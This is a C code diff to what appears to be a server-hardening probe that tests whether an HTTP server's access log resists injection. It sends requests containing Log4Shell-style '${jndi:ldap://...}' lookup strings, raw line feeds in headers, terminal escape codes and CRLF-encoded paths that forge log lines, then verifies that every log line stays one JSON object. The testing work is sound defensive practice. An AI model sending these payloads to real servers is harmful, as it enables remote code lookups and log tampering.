@@ -198,8 +198,9 @@ static char *log_since(const char *path, long offset, size_t *len)
     return buf;
 }
 
-/* Every line is one JSON object without raw control bytes; the count of lines. -1 when not. */
-static int judge_lines(const char *text, size_t len, const char **bad)
+/* Every line is one JSON object without raw control bytes: the count of those that name mark,
+ * or -1 (*bad says why). */
+static int judge_lines(const char *text, size_t len, const char *mark, const char **bad)
 {
     int n = 0;
     for (const char *s = text; s < text + len;) {
@@ -218,7 +219,7 @@ static int judge_lines(const char *text, size_t len, const char **bad)
             return -1;
         }
         json_decref(j);
-        n += ll > 0;
+        n += ll > 0 && memmem(s, ll, mark, strlen(mark)) != NULL;
         s += ll + 1;
     }
     return n;
@@ -235,16 +236,17 @@ static void log_injection(gh_probe *p, gh_probe_result *r)
         return;
     struct stat st;
     long offset = stat(p->access_log, &st) == 0 ? (long)st.st_size : 0;
-    static const char *const hostile[] = {
-        "User-Agent: ${jndi:ldap://probe.invalid/a}\r\n",
-        "Referer: \"}\n",
-        "X-Probe: \x1b[31mred\x1b[0m ${jndi:dns://probe.invalid}\r\n",
-    };
-    const char *targets[] = {"/probe%0d%0aforged-line", "/probe?q=%0d%0a%7b%22forged%22%3a1%7d", "/probe-esc"};
+    /* Each request names the case's mark in its path, so lines of earlier cases written late
+     * are told apart; a raw LF inside a header value (the second) is the attack itself. */
+    const char *mark = gh_arena_printf(&p->arena, "probe-log-%d", rand());
+    const char *hostile[] = {"User-Agent: ${jndi:ldap://probe.invalid/a}\r\n", "Referer: \"}\n",
+                             "X-Probe: \x1b[31mred\x1b[0m ${jndi:dns://probe.invalid}\r\n"};
+    const char *targets[] = {gh_arena_printf(&p->arena, "/%s%%0d%%0aforged-line", mark),
+                             gh_arena_printf(&p->arena, "/%s?q=%%0d%%0a%%7b%%22forged%%22%%3a1%%7d", mark),
+                             gh_arena_printf(&p->arena, "/%s-esc", mark)};
     int sent = 0;
     for (size_t i = 0; i < 3; i++) {
         size_t len;
-        /* A raw LF inside a header value ends the head early: the line break is the attack. */
         const char *bytes = gh_probe_request(p, "GET", targets[i], t->authority, hostile[i], NULL, &len);
         gh_probe_exchange x;
         if (!ask(p, r, t, bytes, len, &x))
@@ -256,10 +258,10 @@ static void log_injection(gh_probe *p, gh_probe_result *r)
     char *text = NULL;
     int lines = -1;
     const char *bad = NULL;
-    for (int tries = 0; tries < 20; tries++) { /* the log is written off the request's path */
+    for (int tries = 0; tries < 10; tries++) { /* the log is written off the request's path */
         free(text);
         text = log_since(p->access_log, offset, &len);
-        lines = text ? judge_lines(text, len, &bad) : -1;
+        lines = text ? judge_lines(text, len, mark, &bad) : -1;
         if (lines < 0 || lines >= sent)
             break;
         usleep(50000);
@@ -269,9 +271,11 @@ static void log_injection(gh_probe *p, gh_probe_result *r)
     else if (lines < 0)
         gh_probe_fail(r, "%s after hostile requests", bad);
     else if (lines > sent)
-        gh_probe_fail(r, "%d requests made %d log lines: a request forged a line", sent, lines);
+        gh_probe_fail(r, "%d requests made %d log lines naming them: a request forged a line", sent, lines);
     else
-        gh_probe_pass(r, "%d hostile requests made %d log lines, each one JSON object", sent, lines);
+        gh_probe_pass(r, "%d hostile requests: every log line one JSON object, none forged (%d of them "
+                         "name their paths: a head refused before its path is read logs none)",
+                      sent, lines);
     free(text);
 }
 
